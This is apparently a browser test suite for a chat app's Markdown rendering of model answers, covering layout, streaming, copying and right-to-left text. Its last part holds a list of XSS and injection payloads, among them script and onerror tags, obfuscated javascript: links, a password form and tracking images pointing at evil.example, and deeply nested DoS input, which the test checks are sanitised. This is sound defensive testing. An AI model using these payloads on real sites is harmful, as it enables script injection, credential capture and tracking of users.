// What a model's Markdown looks like, while it is being written and after,
// and what it cannot do.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';

import { violations } from '../lib/axe.mjs';
import { answered, ask, overflow, PHONE, startAsking } from '../lib/browser.mjs';
import { pieces, QUESTION, startChat } from '../lib/chatting.mjs';

let chat;

before(async () => { chat = await startChat(); });
after(async () => chat?.stop());

const RICH = `Volumes may remain **seven days** [1].

## What to do

1. Fill in a slip
2. Hand it to the desk [1]
   - with the \`shelfmark\`

| Kind | Days | Where it is to be returned when the time is over |
|:-----|-----:|:---|
| Volume | 7 | At the desk on the ground floor, with its slip in it |

> A volume may remain.

\`\`\`js
const wide = '${'x'.repeat(200)}';
\`\`\`

The fee is $f_a * d_b$, not $5 and $6.

$$
\\frac{a}{b} = c
$$
`;

describe('an answer in Markdown', () => {
  test('has headings, lists, tables and code, and nothing is wider than a phone', async () => {
    const { page, troubles, close } = await chat.reader('rich@example.com', { viewport: PHONE });

    chat.model.script(pieces(RICH));
    const turn = await ask(page, QUESTION);
    const prose = turn.locator('[data-prose]');

    await prose.getByRole('heading', { name: 'What to do' }).waitFor();
    assert.equal(await prose.locator('ol > li').count(), 2);
    assert.equal(await prose.locator('ol ul li code').innerText(), 'shelfmark');
    assert.equal(await prose.locator('td').nth(1).evaluate((cell) =>
      getComputedStyle(cell).textAlign), 'end');
    assert.equal(await prose.locator('blockquote').innerText(), 'A volume may remain.');
    assert.deepEqual(await prose.locator('var').allInnerTexts(),
      ['f_a * d_b', '\\frac{a}{b} = c']);
    assert.match(await prose.innerText(), /not \$5 and \$6\./);
    assert.equal(await prose.locator('a.chip').count(), 2);
    assert.equal(await prose.getByText('js', { exact: true }).count(), 1, 'the code\'s language');
    for (const part of ['pre', '.table']) {
      assert.ok(await prose.locator(part).evaluate((box) => box.scrollWidth > box.clientWidth),
        `${part} scrolls by itself`);
    }
    assert.equal(await overflow(page), 0);
    assert.deepEqual(await violations(page), []);
    assert.deepEqual(troubles, []);
    await close();
  });

  test('keeps what is on the screen while it grows', async () => {
    const { page, close } = await chat.reader('grow@example.com');

    chat.model.script(pieces('A first paragraph.\n\n```js\nconst one = 1;\nconst two = 2;\n'
      + 'const three = 3;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nAnd **the end** [1].', 3),
    { delayMs: 15 });
    const turn = await startAsking(page, QUESTION);
    await turn.locator('pre').waitFor();
    // Elements stay the same ones; no raw mark of Markdown is ever shown.
    await page.evaluate(() => {
      const prose = document.querySelector('[data-turns] [data-prose]');
      const pre = prose.querySelector('pre');
      window.seen = { isSame: true, marks: new Set() };
      new MutationObserver(() => {
        window.seen.isSame &&= prose.querySelector('pre') === pre;
        const words = prose.innerText.replace(/const[^\n]*/g, '');
        for (const mark of words.match(/\*\*|\||```|\[\d*$/g) ?? []) window.seen.marks.add(mark);
      }).observe(prose, { subtree: true, childList: true, characterData: true });
    });
    await answered(turn);
    assert.deepEqual(await page.evaluate(() =>
      ({ isSame: window.seen.isSame, marks: [...window.seen.marks] })), { isSame: true, marks: [] });
    assert.equal(await turn.locator('[data-prose] strong').innerText(), 'the end');
    assert.equal(await turn.locator('[data-prose] td').count(), 2);
    await close();
  });

  test('can be copied, and each block of code by itself', async () => {
    const { page, context, close } = await chat.reader('copy@example.com');
    const copied = () => page.evaluate(() => navigator.clipboard.readText());

    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    chat.model.script(pieces('Seven **days** [1].\n\n```sh\nls -l\n```'));
    const turn = await ask(page, QUESTION);
    await turn.getByRole('button', { name: 'Copy code' }).click();
    await turn.getByText('Copied').waitFor();
    assert.equal((await copied()).trim(), 'ls -l');
    await turn.getByRole('button', { name: 'Copy answer' }).click();
    await page.locator('[data-copy-label]').getByText('Copied').waitFor();
    assert.equal(await copied(),
      'Seven **days** [1].\n\n```sh\nls -l\n```\n\n[1] Reading room rules');
    await close();
  });

  test('runs from right to left where its words do', async () => {
    const { page, close } = await chat.reader('rtl@example.com');

    chat.model.script(['يجوز أن يبقى المجلد سبعة أيام [1].', '\n\nEnglish words.']);
    const turn = await ask(page, QUESTION);
    const directions = (locator) => locator.evaluateAll((all) =>
      all.map((element) => getComputedStyle(element).direction));

    assert.deepEqual(await directions(turn.locator('[data-prose] .block')), ['rtl', 'ltr']);
    chat.model.script(['Seven days [1].']);
    await ask(page, `كم يومًا؟ ${QUESTION}`);
    assert.deepEqual(await directions(page.locator('[data-question]:visible')), ['ltr', 'rtl']);
    await close();
  });
});

// Each of them tries to run, load, post or cover something.
const ATTACKS = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"><script>window.hit = 1</script></svg>',
  '<math><mtext><mglyph><style><img src=x onerror=window.hit=1></style></mglyph></mtext></math>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<form action="https://evil.example/post"><button>Sign in</button><input name=password></form>',
  '<style>@import "https://evil.example/style"; body { display: none }</style>',
  '<link rel=stylesheet href="https://evil.example/sheet">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<video src="https://evil.example/v" autoplay></video>',
  '<a href="javascript:window.hit=1" id=x onclick="window.hit=1">press</a>',
  '<details open ontoggle="window.hit=1"><summary>x</summary></details>',
  '<template><img src=x onerror=window.hit=1></template>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/d)">cover</div>',
  '![picture](https://evil.example/pixel.png)',
  '![picture][far]\n\n[far]: https://evil.example/far.png',
  '[![nested](https://evil.example/in.png)](https://evil.example/out)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '[press](javascript:window.hit=1)',
  '[press](JaVaScRiPt:window.hit=1)',
  '[press](java\tscript:window.hit=1)',
  '[press](&#106;avascript:window.hit=1)',
  '[press](data:text/html,<script>window.hit=1</script>)',
  '[press](vbscript:msgbox)',
  '[press](//evil.example/relative)',
  '[press](/form/sign-out)',
  '<javascript:window.hit=1>',
  '[1]: https://evil.example/definition\n\n[1]',
  '[x](https://ok.example "title\\" onmouseover=\\"window.hit=1")',
  '`<script>window.hit = 1</script>`',
  '```"><img src=x onerror=window.hit=1>\n</code></pre><script>window.hit = 1</script>\n```',
  '```js onload=window.hit=1\n1\n```',
  '| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |',
  '$$<img src=x onerror=window.hit=1> = \\frac$$',
  '&lt;script&gt;window.hit = 1&lt;/script&gt;',
  `${'>'.repeat(3000)} deep`,
  `${Array.from({ length: 200 }, (_, i) => `${' '.repeat(2 * i)}- x`).join('\n')}`,
  `${'*a **b '.repeat(300)}`,
  `${'['.repeat(2000)}x${']'.repeat(2000)}`,
  `${'![a]('.repeat(500)}`,
  'a\u202Egnp.exe and \u0000 nothing',
];

describe('Markdown of an attacker', () => {
  test('does nothing and loads nothing', async () => {
    const { page, troubles, close } = await chat.reader('attack@example.com');

    for (const attack of ATTACKS) {
      chat.model.script(pieces(`Before [1].\n\n${attack}\n\nAfter.`, 40));
      await page.goto('/chat');
      const turn = await ask(page, QUESTION);
      const found = await turn.locator('[data-prose]').evaluate((prose) => ({
        elements: [...prose.querySelectorAll('*')].map(({ localName }) => localName)
          .filter((name) => /^(script|img|svg|math|iframe|form|input|style|link|meta|base|object|embed|video|template|details)$/.test(name)),
        handlers: [...prose.querySelectorAll('*')].flatMap(({ attributes }) => [...attributes])
          .filter(({ name }) => /^(on|style|src|id|action)/.test(name)).map(({ name }) => name),
        links: [...prose.querySelectorAll('a:not(.chip)')].map((link) => link.getAttribute('href'))
          .filter((href) => href !== null && !/^https?:\/\//.test(href)),
        hasEnd: prose.innerText.includes('After.'),
        hit: window.hit,
      }));

      assert.deepEqual(found, { elements: [], handlers: [], links: [], hasEnd: true, hit: undefined },
        attack.slice(0, 80));
      for (const link of await turn.locator('[data-prose] a:not(.chip)').all()) {
        assert.match(await link.getAttribute('rel') ?? 'noopener', /noopener/);
      }
    }
    assert.deepEqual(troubles, [], 'nothing was loaded, refused or said in the console');
    await close();
  });
});
